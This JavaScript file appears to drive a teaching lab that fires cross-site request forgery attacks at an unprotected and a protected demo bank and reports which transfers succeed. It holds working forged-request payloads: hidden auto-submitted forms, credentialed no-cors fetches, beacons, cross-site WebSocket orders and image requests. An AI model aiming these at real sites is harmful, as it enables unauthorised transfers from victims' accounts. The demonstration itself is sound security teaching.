// Runs in the browser, on the attacker's page: fires attacks at both banks, and shows what happened.

const { origins } = JSON.parse(document.querySelector('#play').textContent)
const banks = ['unprotected', 'protected']

// What a page can send to a bank. Each attempt has a name, under which the bank records the outcome.
const vehicles = {
  form (bank, attempt) {
    hiddenFrame(attempt).src = `${origins.crossSite}/attack/${bank}/${attempt}`
  },
  neighbour (bank, attempt) {
    const form = Object.assign(document.createElement('form'), {
      method: 'post', action: `${origins[bank]}/transfer?attempt=${attempt}`, target: hiddenFrame(attempt).name, hidden: true
    })
    form.append(Object.assign(document.createElement('input'), { name: 'amount', value: '100' }))
    document.body.append(form)
    form.submit()
  },
  fetch (bank, attempt) {
    const body = new URLSearchParams({ amount: '100' })
    fetch(`${origins[bank]}/transfer?attempt=${attempt}`, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => {})
  },
  beacon (bank, attempt) {
    navigator.sendBeacon(`${origins[bank]}/transfer?attempt=${attempt}`, new URLSearchParams({ amount: '100' }))
  },
  webSocket (bank, attempt) {
    const socket = new WebSocket(`${origins[bank].replace('http', 'ws')}/orders?attempt=${attempt}`)
    socket.onopen = () => socket.send('100')
  },
  image (bank, attempt) {
    document.createElement('img').src = `${origins[bank]}/pay?amount=100&attempt=${attempt}`
  }
}

function hiddenFrame (name) {
  return document.body.appendChild(Object.assign(document.createElement('iframe'), { name, hidden: true }))
}

async function fire (vehicle) {
  const row = document.querySelector(`[data-attack=${vehicle}]`)
  for (const bank of banks) {
    const cell = row.querySelector(`[data-at=${bank}]`)
    show(cell, 'waiting', 'sending …')
    const attempt = `${vehicle}-${crypto.randomUUID()}`
    vehicles[vehicle](bank, attempt)
    describe(cell, await outcomeOf(bank, attempt))
  }
}

/** The outcome that the bank recorded, or undefined if no such attempt reached it within five seconds. */
async function outcomeOf (bank, attempt) {
  for (let i = 0; i < 50; i++) {
    const response = await fetch(`/outcomes/${bank}/${attempt}`)
    if (response.ok) return response.json()
    await new Promise(resolve => setTimeout(resolve, 100))
  }
}

function describe (cell, outcome) {
  if (outcome === undefined) return show(cell, 'kept', 'The browser sent nothing')
  if (outcome.moved > 0) return show(cell, 'moved', `${outcome.moved} € gone`)
  show(cell, 'kept', 'Refused', outcome.message, outcome.reason)
}

function show (cell, state, title, sentence, reason) {
  cell.className = state
  cell.replaceChildren(element('strong', title))
  if (sentence) cell.append(element('p', sentence), element('code', reason))
}

function element (name, text) {
  return Object.assign(document.createElement(name), { textContent: text })
}

/** Reloads the banks' pages, to show the new balances. */
async function reload () {
  await Promise.all(banks.map(bank => new Promise(resolve => {
    const frame = document.querySelector(`iframe[name=${bank}]`)
    frame.onload = resolve
    frame.src = origins[bank]
  })))
}

/** Does one thing at a time. The buttons keep the focus, and look disabled while they wait. */
async function busy (act) {
  const { body } = document
  if (body.ariaBusy === 'true') return
  body.ariaBusy = 'true'
  await act()
  await reload()
  body.ariaBusy = 'false'
}

for (const vehicle of Object.keys(vehicles)) {
  document.querySelector(`[data-attack=${vehicle}] button`).onclick = () => busy(() => fire(vehicle))
}
document.querySelector('#all').onclick = () => busy(async () => {
  for (const vehicle of Object.keys(vehicles)) await fire(vehicle)
})
document.querySelector('#again').onclick = () => busy(async () => {
  await fetch('/again', { method: 'POST' })
  for (const cell of document.querySelectorAll('td')) show(cell, '', '–')
})
